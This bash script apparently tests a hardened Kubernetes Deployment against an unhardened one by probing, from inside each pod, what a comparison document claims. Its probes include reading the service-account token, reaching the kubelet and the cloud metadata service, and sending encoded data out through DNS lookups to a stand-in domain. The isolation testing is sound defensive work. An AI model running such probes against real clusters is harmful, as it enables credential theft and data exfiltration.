#!/usr/bin/env bash
# Makes the same attempts from inside the pods of the two Deployments of docs/comparison.md, and fails where its table
# says anything else than what came of them. NAMESPACE is where they are.
set -euo pipefail
cd "$(dirname "$0")/../.."
field() { kubectl get "$@" -o "jsonpath=$path"; }
path={.spec.clusterIP}
dns=$(field service -n kube-system kube-dns)
api=$(field service kubernetes)
path='{.items[0].status.addresses[?(@.type=="InternalIP")].address}'
node=$(field nodes)
wrong=0
attempt() { # WHAT, then what the toolbox is to do
  local what=$1 row said
  shift
  row="| $what |"
  for deployment in plain warden; do
    # What was written cannot always be removed again, and was written all the same.
    if said=$(kubectl -n "$NAMESPACE" exec "deploy/$deployment" -c server -- /toolbox "$@" 2>&1) || [[ $said == "failed: remove "* ]]; then row+=" yes |"; else row+=" no |"; fi
  done
  echo "$row"
  grep -qxF "$row" docs/comparison.md || wrong=1
}
attempt "read a token for the API server" read /var/run/secrets/kubernetes.io/serviceaccount/token
attempt "reach the API server" dial tcp "$api:443"
attempt "reach the kubelet of its node" dial tcp "$node:10250"
attempt "reach a cloud's metadata service" dial tcp 169.254.169.254:80
attempt "reach any host on the internet" dial tcp 203.0.113.12:443
attempt "send data out in the names that it looks up (DNS tunnelling)" lookup udp "$dns:53" nfxgk3tfoqqhg5lqmvzg64q.turning.test
attempt "reach other pods of the cluster" dial tcp "$dns:53"
attempt "change files of its image" write /writable
attempt "make a user namespace of its own, as many kernel exploits begin" userns
[ "$wrong" = 0 ] || { echo "docs/comparison.md says otherwise"; exit 1; }
